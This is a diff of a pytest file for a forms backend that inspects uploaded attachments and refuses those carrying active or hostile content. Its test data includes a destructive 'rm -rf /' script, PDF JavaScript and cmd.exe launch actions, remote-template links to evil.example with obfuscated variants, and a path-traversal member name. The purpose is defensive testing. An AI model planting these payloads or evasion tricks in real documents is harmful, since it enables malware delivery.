@@ -5,57 +5,49 @@ from __future__ import annotations
 import gzip
 import io
 import tarfile
-from dataclasses import dataclass
 from pathlib import Path
 
 import docx
 import openpyxl
 import pytest
+from pikepdf import Array, Dictionary, Name, String
 from PIL import Image
 from PIL.PngImagePlugin import PngInfo
 
 from forms_backend.attachments import messages
-from forms_backend.attachments.errors import RefusedFileError
-from forms_backend.attachments.inspection import inspect
 from forms_backend.attachments.kinds import ACCEPTED_EXTENSIONS, FileKind
 from forms_backend.attachments.names import clean_name
+from forms_backend.attachments.readers.answer import Outcome
+from forms_backend.attachments.refusal import RefusedFileError
 from tests.forms_backend.attachments import sample_files as samples
+from tests.forms_backend.attachments.workbench import Seen, look, receive, workshop
 
 NOT = messages.NOT_ACCEPTED.format(what="{}")
 UNKNOWN = messages.UNKNOWN
 
 
-@dataclass(frozen=True)
-class Seen:
-    """What an inspection leaves of a file."""
-
-    name: str
-    kind: FileKind
-    content: bytes
+def taken(name: str, content: bytes) -> Seen:
+    seen = look(name, content)
+    assert seen.outcome is Outcome.TAKEN, seen
+    assert seen.kind is not None
+    return seen
 
 
-def look(name: str, content: bytes, max_mb: int = 20) -> Seen:
-    found = inspect(name, io.BytesIO(content), len(content), max_mb)
-    with found.stream as stream:
-        stream.seek(0)
-        return Seen(found.name, found.kind, stream.read())
-
-
-def refusal(name: str, content: bytes, max_mb: int = 20) -> str:
-    with pytest.raises(RefusedFileError) as caught:
-        look(name, content, max_mb)
-    return str(caught.value)
+def refusal(name: str, content: bytes) -> str:
+    seen = look(name, content)
+    assert seen.outcome is Outcome.REFUSED, seen
+    return seen.reason
 
 
 @pytest.mark.parametrize("name", samples.ACCEPTED)
 def test_every_kind_is_known_by_its_content(name: str) -> None:
-    found = look(name, samples.ACCEPTED[name])
-    assert f".{name.rpartition('.')[2]}" in found.kind.extensions
-    assert found.name == name
+    kind = taken(name, samples.ACCEPTED[name]).kind
+    assert kind is not None
+    assert f".{name.rpartition('.')[2]}" in kind.extensions
 
 
 def test_a_sample_for_every_kind() -> None:
-    assert {look(n, c).kind for n, c in samples.ACCEPTED.items()} == set(FileKind)
+    assert {taken(n, c).kind for n, c in samples.ACCEPTED.items()} == set(FileKind)
     assert len(set(ACCEPTED_EXTENSIONS)) == len(ACCEPTED_EXTENSIONS)
 
 
@@ -66,7 +58,7 @@ def test_documents_that_real_programs_wrote_are_taken(tmp_path: Path) -> None:
     book = openpyxl.Workbook()
     book.save(tmp_path / "a.xlsx")
     for name in ("a.docx", "a.xlsx"):
-        look(name, (tmp_path / name).read_bytes())
+        taken(name, (tmp_path / name).read_bytes())
 
 
 def tar() -> bytes:
@@ -78,13 +70,29 @@ def tar() -> bytes:
 
 OLE_WITH_MACROS = samples.compound_file({"WordDocument": b""}, ("Macros", "VBA"))
 PACKED_PROGRAM = samples.compound_file({"\x01Ole10Native": samples.EXECUTABLE})
-REMOTE = (
-    b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
-    b'TargetMode="External"/>'
+
+
+def content_type(name: str) -> str:
+    return f'<Default Extension="bin" ContentType="application/vnd.{name}"/>'
+
+
+def relation(kind: str, target: str, mode: str = "External") -> bytes:
+    return (
+        f'<Relationships><Relationship Id="a" Type="http://x/{kind}" Target="{target}" '
+        f'TargetMode="{mode}"/></Relationships>'
+    ).encode()
+
+
+AT_ONCE = Dictionary(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
+ENCLOSED = Dictionary(
+    Names=Dictionary(
+        EmbeddedFiles=Dictionary(
+            Names=Array([String("a"), Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary())])
+        )
+    )
 )
 
 REFUSED: list[tuple[str, bytes, str]] = [
-    ("a.pdf", b"", messages.EMPTY),
     ("a.exe", samples.EXECUTABLE, NOT.format(messages.EXECUTABLE)),
     ("a.pdf", samples.EXECUTABLE, NOT.format(messages.EXECUTABLE)),
     ("a.sh", b"#!/bin/sh\nrm -rf /\n", NOT.format(messages.SCRIPT)),
@@ -111,16 +119,59 @@ REFUSED: list[tuple[str, bytes, str]] = [
     ("a.pdf", samples.pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), messages.ACTIVE),
     ("a.pdf", samples.pdf(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), messages.ACTIVE),
     ("a.pdf", samples.pdf(b"/AA << /S /Launch /F (cmd.exe) >>"), messages.ACTIVE),
-    ("a.pdf", samples.pdf(b"/Encrypt 5 0 R"), messages.ENCRYPTED),
+    ("a.pdf", samples.locked_pdf("secret"), messages.ENCRYPTED),
+    ("a.pdf", samples.locked_pdf(""), messages.ENCRYPTED),
+    ("a.pdf", samples.pdf(trailer=b"/Encrypt << /Filter /None >>"), messages.ENCRYPTED),
+    ("a.pdf", samples.pdf_with_hidden(AT_ONCE), messages.ACTIVE),
+    ("a.pdf", samples.pdf_with_hidden(Dictionary(Names=Dictionary(JavaScript=Array()))),
+     messages.ACTIVE),
+    ("a.pdf", samples.pdf_with_hidden(Dictionary(OpenAction=Dictionary(S=Name.URI, URI="http://x/"))),
+     messages.ACTIVE),
+    ("a.pdf", samples.pdf_with_hidden(Dictionary(AA=Dictionary(WC=Dictionary(S=Name.GoToR)))),
+     messages.ACTIVE),
+    ("a.pdf", samples.pdf_with_hidden(Dictionary(AcroForm=Dictionary(XFA=Array())))
+     , messages.ACTIVE),
+    ("a.pdf", samples.pdf_with_hidden(ENCLOSED), messages.ENCLOSES),
+    ("a.pdf", samples.pdf(objects=(b"<< /S /J#61vaScript /J#53 (x) >>",)), messages.ACTIVE),
+    ("a.pdf", samples.pdf(b"/OpenAction 4 0 R", objects=(
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
+        b"<< /S /GoTo /Next [4 0 R 6 0 R] >>", b"<< /S /SubmitForm /F (http://x/) >>")),
+     messages.ACTIVE),
     ("a.docx", samples.office("docx", {"word/vbaProject.bin": b"x"}), messages.MACROS),
     ("a.xlsx", samples.office("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), messages.MACROS),
-    ("a.docx", samples.office("docx", types="application/vnd.ms-word.document.macroEnabled"),
+    ("a.docx", samples.office("docx", types=content_type("ms-word.document.macroEnabled.main+xml")),
      messages.MACROS),
+    ("a.docx", samples.office("docx", types=content_type("ms-office.vbaProject")), messages.MACROS),
+    ("a.docx", samples.office("docx", types=content_type("ms-office.activeX")), messages.ACTIVE),
     ("a.docx", samples.office("docx", {"word/embeddings/x.exe": b"MZ"}), messages.ACTIVE),
     ("a.docx", samples.office("docx", {"word/activeX/activeX1.bin": b"x"}), messages.ACTIVE),
     ("a.docx", samples.office("docx", {"word/embeddings/o.bin": PACKED_PROGRAM}), messages.ACTIVE),
     ("a.docx", samples.office("docx", {"word/embeddings/o.bin": OLE_WITH_MACROS}), messages.MACROS),
-    ("a.docx", samples.office("docx", {"word/_rels/settings.xml.rels": REMOTE}), messages.ACTIVE),
+    *(("a.docx", samples.office("docx", {"word/_rels/settings.xml.rels": relation(kind, target)}),
+       messages.ACTIVE)
+      for kind, target in (
+          ("attachedTemplate", "http://evil.example/t.dotm"),
+          ("attachedTemplate", "file://evil.example/share/t.dotm"),
+          ("attachedTemplate", "file:////evil.example/share/t.dotm"),
+          ("attachedTemplate", "&#92;&#92;evil.example\\share\\t.dotm"),
+          ("attachedTemplate", "h&#116;tps://evil.example/t.dotm"),
+          ("oleObject", "HTTP://evil.example/x.hta"),
+          ("frame", "mhtml:http://evil.example/x"),
+      )),
+    ("a.docx", samples.office("docx", {"word/_rels/document.xml.rels":
+        relation("vbaProject", "renamed.bin", "Internal")}), messages.MACROS),
+    ("a.docx", samples.office("docx", {"word/_rels/document.xml.rels": b"<Relationships>"}),
+     messages.BROKEN),
+    ("a.docx", samples.office("docx", {"word/_rels/document.xml.rels":
+        b"<Relationships>" + b"<x/>" * 20_000 + b"</Relationships>"}), messages.TOO_MANY_RELATIONS),
+    ("a.docx", samples.office("docx", {"word/styles.xml":
+        b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), messages.BROKEN),
+    ("a.docx", samples.office("docx", {"word/styles.xml": b"<a>" * 300 + b"</a>" * 300}),
+     messages.TOO_NESTED),
+    ("a.docx", samples.office("docx", {"word/embeddings/a.xlsx":
+        samples.office("xlsx", {"xl/vbaProject.bin": b"x"})}), messages.MACROS),
+    ("a.docx", samples.office("docx", {"word/embeddings/a.bin": samples.zipped({"a": b"x"})}),
+     NOT.format(messages.ARCHIVE)),
     ("a.docx", samples.office("docx", {"../../etc/passwd": b"x"}), messages.BROKEN),
     ("a.docx", samples.encrypted_zip(), messages.ENCRYPTED),
     ("a.docx", samples.zip_bomb(), messages.BOMB),
@@ -156,6 +207,59 @@ def test_what_is_refused_is_said_plainly(name: str, content: bytes, said: str) -
     assert refusal(name, content) == said
 
 
+@pytest.mark.parametrize(
+    "content",
+    [
+        samples.pdf(b"/OpenAction [3 0 R /Fit]"),
+        samples.pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
+                    objects=(b"<< /S /Named /N /NextPage /Next 4 0 R >>",)),
+        samples.pdf(objects=(b"<< /S /URI /URI (http://x/) >>", b"(how to avoid /JavaScriptX /JS)")),
+        samples.pdf_with_hidden(Dictionary(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array())))),
+    ],
+    ids=["place", "steps", "link", "nothing-enclosed"],
+)  # fmt: skip
+def test_a_document_that_only_shows_something_is_taken(content: bytes) -> None:
+    assert taken("a.pdf", content).kind is FileKind.PDF
+
+
+LINKED = {
+    "word/_rels/document.xml.rels": relation("hyperlink", "http://x.example/"),
+    "word/_rels/settings.xml.rels": relation(
+        "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"
+    ),
+    "word/_rels/header.xml.rels": relation("attachedTemplate", "C:\\Users\\a\\Normal.dotm"),
+    "word/_rels/footer.xml.rels": relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
+}
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        LINKED,
+        {"customXml/item1.xml": '<?xml version="1.0" encoding="GBK"?><a>法</a>'.encode("gbk")},
+        {"customXml/item1.xml": '<?xml version="1.0" encoding="UTF-16"?><a>法</a>'.encode("utf-16")},
+        {"word/embeddings/a.xlsx": samples.office("xlsx", {"xl/embeddings/b.docx":
+            samples.office("docx")})},
+        {"word/embeddings/a.bin": samples.compound_file({"Workbook": samples.workbook()})},
+    ],
+    ids=["links", "gbk", "utf-16", "workbook", "old-workbook"],
+)  # fmt: skip
+def test_what_documents_may_hold(parts: dict[str, bytes]) -> None:
+    assert taken("a.docx", samples.office("docx", parts)).kind is FileKind.DOCX
+
+
+def test_the_main_part_may_have_any_name() -> None:
+    """Word on the web calls it document2.xml."""
+    content = samples.office("docx").replace(b"word/document.xml", b"word/docxment.xml")
+    parts = {
+        "[Content_Types].xml": b'<Types><Override PartName="/word/document2.xml" ContentType="'
+        b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        "word/document2.xml": b"<x/>",
+    }
+    assert taken("a.docx", samples.zipped(parts)).kind is FileKind.DOCX
+    assert refusal("a.docx", content) == UNKNOWN
+
+
 def test_a_word_document_inside_a_workbook_does_not_make_it_one() -> None:
     content = samples.compound_file({"Workbook": samples.workbook()}, ("MBD0001",))
     inner = "WordDocument".encode("utf-16-le") + b"\0\0"
@@ -165,12 +269,21 @@ def test_a_word_document_inside_a_workbook_does_not_make_it_one() -> None:
         content[:spare] + inner.ljust(64, b"\0") + len(inner).to_bytes(2, "little") + b"\x02\x01"
         + content[spare + 68 :]
     )  # fmt: skip
-    assert look("a.xls", changed).kind is FileKind.XLS
+    assert taken("a.xls", changed).kind is FileKind.XLS
 
 
-def test_the_limit_of_size_counts_what_was_sent() -> None:
-    content = samples.pdf() + bytes(1024 * 1024)
-    assert refusal("a.pdf", content, max_mb=1) == messages.TOO_LARGE.format(megabytes=1)
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [(b"", messages.EMPTY),
+     (samples.pdf() + bytes(1024 * 1024), messages.TOO_LARGE.format(megabytes=1))],
+    ids=["empty", "large"],
+)  # fmt: skip
+def test_what_nobody_needs_to_look_at_is_refused_at_once(
+    tmp_path: Path, content: bytes, said: str
+) -> None:
+    with pytest.raises(RefusedFileError) as caught:
+        receive(workshop(tmp_path), "a.pdf", content, max_mb=1)
+    assert str(caught.value) == said
 
 
 @pytest.mark.parametrize(
@@ -197,7 +310,7 @@ def test_names_are_cleaned(sent: str, clean: str) -> None:
 @pytest.mark.parametrize("orientation", range(1, 9))
 def test_a_photo_stands_upright_and_tells_nothing_but_the_picture(orientation: int) -> None:
     original = samples.photo_with_place(orientation)
-    cleaned = look("a.jpg", original).content
+    cleaned = taken("a.jpg", original).written
     assert b"SECRET" not in cleaned
     with Image.open(io.BytesIO(cleaned)) as image, Image.open(io.BytesIO(original)) as before:
         assert dict(image.getexif()) == {}
@@ -214,7 +327,7 @@ def test_a_photo_stands_upright_and_tells_nothing_but_the_picture(orientation: i
 
 def test_a_picture_that_stands_upright_loses_no_quality() -> None:
     original = samples.photo_with_place(1, size=(64, 64))
-    cleaned = look("a.jpg", original).content
+    cleaned = taken("a.jpg", original).written
     with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(cleaned)) as after:
         assert before.quantization == after.quantization
         pairs = zip(before.tobytes(), after.tobytes(), strict=True)
@@ -225,11 +338,11 @@ def test_a_picture_that_stands_upright_loses_no_quality() -> None:
 def test_the_same_picture_gives_the_same_bytes() -> None:
     for name in ("a.jpeg", "a.png", "a.gif", "a.webp"):
         content = samples.ACCEPTED[name]
-        assert look(name, content).content == look(name, content).content
+        assert taken(name, content).written == taken(name, content).written
 
 
 def test_a_moving_picture_still_moves() -> None:
-    cleaned = look("a.gif", samples.moving_gif()).content
+    cleaned = taken("a.gif", samples.moving_gif()).written
     assert b"SECRET" not in cleaned
     with Image.open(io.BytesIO(cleaned)) as image:
         assert (image.n_frames, image.info["duration"]) == (3, 90)
@@ -240,7 +353,7 @@ def test_a_png_keeps_transparency_and_loses_its_texts() -> None:
     info.add_text("Author", "SECRET")
     target = io.BytesIO()
     Image.new("RGBA", (4, 4), (1, 2, 3, 77)).save(target, format="PNG", pnginfo=info)
-    cleaned = look("a.png", target.getvalue()).content
+    cleaned = taken("a.png", target.getvalue()).written
     assert b"SECRET" not in cleaned
     with Image.open(io.BytesIO(cleaned)) as image:
         assert image.getpixel((0, 0)) == (1, 2, 3, 77)
